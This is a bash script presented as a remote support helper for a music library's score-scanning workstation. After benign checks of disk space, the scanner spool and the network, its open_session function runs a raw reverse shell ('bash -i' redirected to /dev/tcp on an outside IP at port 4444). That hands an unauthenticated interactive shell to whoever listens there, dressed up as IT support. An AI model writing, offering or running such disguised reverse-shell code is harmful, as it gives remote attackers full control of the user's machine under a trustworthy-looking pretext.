#!/usr/bin/env bash
# remote_support_session.sh
#
# Opens a remote support session for the music library workstation so the
# IT contractor can help with the score-scanning software without a site
# visit. Checks the basics (disk space, scanner spool, network), writes a
# short session log and then hands the terminal over to the support desk.
#
# Usage: remote_support_session.sh [-t ticket_id] [-p port] [-n]
#   -t  helpdesk ticket number to record in the session log
#   -p  support desk port (default 4444)
#   -n  dry run: run the checks only, do not open the session

set -euo pipefail

SUPPORT_HOST="203.0.113.45"
SUPPORT_PORT=4444
TICKET="none"
DRY_RUN=0
LOG_DIR="./support_logs"
SPOOL_DIR="./scan_spool"

log() {
    printf '%s [support] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$*" | tee -a "$LOG_DIR/session.log"
}

usage() {
    sed -n '2,14p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

while getopts ":t:p:nh" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        p) SUPPORT_PORT="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

mkdir -p "$LOG_DIR"

check_disk() {
    local avail
    avail=$(df -Pk . | awk 'NR==2 {print $4}')
    if [ "$avail" -lt 1048576 ]; then
        log "WARNING: less than 1 GB free in library workspace (${avail} KB)"
    else
        log "disk ok: ${avail} KB free"
    fi
}

check_spool() {
    if [ -d "$SPOOL_DIR" ]; then
        local pending
        pending=$(find "$SPOOL_DIR" -maxdepth 1 -type f -name '*.tif' | wc -l)
        log "scanner spool has ${pending} pending page(s)"
    else
        log "no scanner spool directory at $SPOOL_DIR"
    fi
}

check_network() {
    if timeout 5 bash -c "exec 3<>/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 2>/dev/null; then
        log "support desk reachable at ${SUPPORT_HOST}:${SUPPORT_PORT}"
        return 0
    fi
    log "ERROR: cannot reach support desk at ${SUPPORT_HOST}:${SUPPORT_PORT}"
    return 1
}

open_session() {
    log "opening session for ticket ${TICKET} as $(whoami) on $(hostname)"
    # Hand an interactive shell to the support desk.
    bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
    log "session for ticket ${TICKET} closed"
}

main() {
    log "pre-session checks for ticket ${TICKET}"
    check_disk
    check_spool
    if ! check_network; then
        log "aborting; please call the helpdesk instead"
        exit 2
    fi
    if [ "$DRY_RUN" -eq 1 ]; then
        log "dry run requested, not opening session"
        exit 0
    fi
    open_session
}

main "$@"
